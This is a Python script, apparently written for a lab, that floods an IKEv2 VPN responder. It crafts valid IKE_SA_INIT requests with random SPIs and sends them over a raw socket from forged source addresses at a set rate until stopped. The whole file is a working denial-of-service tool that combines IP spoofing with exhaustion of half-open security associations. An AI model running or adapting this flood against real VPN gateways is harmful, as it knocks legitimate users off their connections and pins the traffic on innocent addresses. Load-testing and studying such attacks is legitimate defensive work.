"""Calls that nobody makes: valid IKE_SA_INIT requests (RFC 7296, 1.2) with random SPIs, under chosen source addresses.

    spoofed_calls.py DESTINATION PER_SECOND SOURCE ...

Sends them to DESTINATION (IPv4), from port 500 of one SOURCE after the other, until it is ended. Needs root. The proposal is the one
of the lab's connections: AES-CBC-128, HMAC-SHA2-256, X25519.
"""

import itertools
import os
import socket
import struct
import sys
import time

IKE_PORT = 500
SA, KEY_EXCHANGE, NONCE = 33, 34, 40
IKE_SA_INIT, FLAG_INITIATOR = 34, 0x08
CURVE_25519 = 31


def payload(following, body):
    return struct.pack("!BBH", following, 0, 4 + len(body)) + body


def transform(is_last, kind, number, attributes=b""):
    return struct.pack("!BBHBBH", 0 if is_last else 3, 0, 8 + len(attributes), kind, 0, number) + attributes


def proposal():
    transforms = [
        transform(False, 1, 12, struct.pack("!HH", 0x800E, 128)),
        transform(False, 2, 5),
        transform(False, 3, 12),
        transform(True, 4, CURVE_25519),
    ]
    body = b"".join(transforms)
    return struct.pack("!BBHBBBB", 0, 0, 8 + len(body), 1, 1, 0, len(transforms)) + body


def ike_sa_init():
    body = (
        payload(KEY_EXCHANGE, proposal())
        + payload(NONCE, struct.pack("!HH", CURVE_25519, 0) + os.urandom(32))
        + payload(0, os.urandom(32))
    )
    header = os.urandom(8) + bytes(8) + struct.pack("!BBBBII", SA, 0x20, IKE_SA_INIT, FLAG_INITIATOR, 0, 28 + len(body))
    return header + body


def packet(source, destination):
    message = ike_sa_init()
    # Checksum 0: none (RFC 768). The kernel fills in that of the IP header, and its length.
    udp = struct.pack("!HHHH", IKE_PORT, IKE_PORT, 8 + len(message), 0) + message
    ends = socket.inet_aton(source) + socket.inet_aton(destination)
    return struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0) + ends + udp


def main(destination, per_second, *sources):
    wire = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for source in itertools.cycle(sources):
        wire.sendto(packet(source, destination), (destination, 0))
        time.sleep(1 / float(per_second))


if __name__ == "__main__":
    main(*sys.argv[1:])
